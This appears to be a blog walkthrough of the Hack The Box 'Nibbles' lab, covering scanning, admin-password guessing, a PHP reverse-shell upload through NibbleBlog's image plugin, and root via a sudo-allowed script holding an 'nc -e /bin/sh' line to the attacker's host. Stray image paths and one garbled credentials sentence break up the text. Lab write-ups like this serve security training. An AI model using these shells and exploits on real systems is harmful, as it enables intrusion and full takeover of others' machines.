HTB - Nibbles without MetaSploit


Easy box, according to HTB notation, also not a very good user’s rating. Let’s see what it is about!


HTB - Nibbles


Quick recon according to logo and info :

  • Linux box ;
  • Misc : web, misconfiguration.


Classic nmap scan :

sudo nmap -T4 -A -p- -oA scan $target_ip
Starting Nmap 7.91 ( ) at 2021-02-17 16:42 CET
Nmap scan report for $target_ip
Host is up (0.023s latency).
Not shown: 65533 closed ports22/tcp open  ssh     OpenSSH 7.2p2 Ubuntu 4ubuntu2.2 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 c4:f8:ad:e8:f8:04:77:de:cf:15:0d:63:0a:18:7e:49 (RSA)
|   256 22:8f:b1:97:bf:0f:17:08:fc:7e:2c:8f:e9:77:3a:48 (ECDSA)
|_  256 e6:ac:27:a3:b5:a9:f1:12:3c:34:a5:5d:5b:eb:3d:e9 (ED25519)
80/tcp open  http    Apache httpd 2.4.18 ((Ubuntu))
|_http-server-header: Apache/2.4.18 (Ubuntu)
|_http-title: Site doesn't have a title (text/html).
No exact OS matches for host (If you know what OS is running on it, see ).
TCP/IP fingerprint:

Network Distance: 2 hops
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

TRACEROUTE (using port 8080/tcp)
1   23.69 ms
2   24.01 ms $target_ip

OS and Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 47.45 seconds

Web scanning

Let’s enumerate web folders in CLI, for a change :

gobuster dir -u http://$target_ip -w /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt -t 200 -x .php

This won’t give us much information, however by browsing to the website and checking its source we find a new URL :

Nibbles Check Source

We fire gobuster one more time, with this new URL :

gobuster dir -u http://$target_ip/nibbleblog/ -w /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt -t 200 -x .php

Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:            http://$target_ip/nibbleblog/
[+] Threads:        200
[+] Wordlist:/usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt
[+] Status codes:200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Extensions:     php
[+] Timeout:        10s
2021/02/17 16:54:47 Starting gobuster
/themes (Status: 301)
/feed.php (Status: 200)
/admin (Status: 301)
/admin.php (Status: 200)
/plugins (Status: 301)
/install.php (Status: 200)
/update.php (Status: 200)
/languages (Status: 301)
/index.php (Status: 200)
/content (Status: 301)
/sitemap.php (Status: 200)
2021/02/17 16:55:21 Finished

It will reveal juicier info, such as admin.php, install.php, sitemap, etc.

Going to install.php will tell us the site is already installed and propose to upgrade it which will eventually leak NibbleBlog version 4.0.3 :

Nibbles Version

By checking source code on Github, we also find juicy directory in /content/private :

Nibbles Directory Listing

Now checking searchsploit we find that our version is vulnerable to Authenticated Arbitrary File Upload. It means we need to get the credentials.

By looking inside the users.xml file we can suppose that admin is the login.


Now, we could try to brute force the admin area, however it won’t be effective since Nibbleblog will temporarily block our IP after a few attempts:

Nibbles WAF

Here, again, I spent way more time than I care to admit. You have to find the password, but can’t “crack” it which meanswe have to guess it. I tried a lot of stuff… but couldn’t find it, so I cheated… again!

We know the password is admin, and the password is nibbles, like the box’s name (which I tried), but I uesd a capital N.

Nibbles Admin Area

Now that we have our credentials, we canfinally start playing with the CVE we found earlier! Since, we are trying to solve this without MetaSploit, we need to find a manual way to exploit our target.Getting initial shell

Let’s create a [php shell(], thanks to Pentest Monkey and upload it via the Image plugin located at http://$target_ip/nibbleblog/admin.php?controller=plugins&action=config&plugin=my_image, then we will run shell my going to this URL : http://$target_ip/nibbleblog/content/private/plugins/my_image/image.php. The filename will always be image.ext with ext being the “real” extension.

NB : do not forget to start your listener : nc -nlvp 1234.

And we are in, unfortunately as nibbler and not root :

Nibbles Initial Shell

Let’s still grab the user flag :

Nibbles User Flag

And now… we need to escalate our priv!


Before we can have a chance to elevate our privs, we should do more internal recon.

We’ll upload LSE, in order to check for any “entry points” to privileges escalation.

We will serve our script via sudo python2 -m SimpleHTTPServer 80 since our target doesn’t seem to resolve Github’s domain’s and download it with curl.

Once itdownloaded, give it exec right, then run it. Something interesting will come up :

Nibbles LSE Sudo

This means that we’ll be able to run anything as root as long as it is in /home/nibbler/personal/stuff/

All right! Let’s try to run a reverse shell :

cd /home/nibbler
echo "#!/bin/bash" >personal/stuff/
echo "nc -e "/bin/sh" $attacking_ip 1235" >> personal/stuff/
chmod +x personal/stuff/

Now we run it :

sudo /home/nibbler/personal/stuff/

NB : don’t forget to start the listener on your attacking machine.

And that’s it, we have root :

Nibbles Root ShellAnd we grab the last flag :

Nibbles Root Flag


Let me beblunt. Getting the admin’s password sucked, and was no fun at all. By judgingfrom the comments on the forum and the poor notation, I guess I wasn’t the only one really frustrated while trying to get initial access. However, onceI was in, while it was pretty easy, it was alsosuper fun and really enjoyed this box!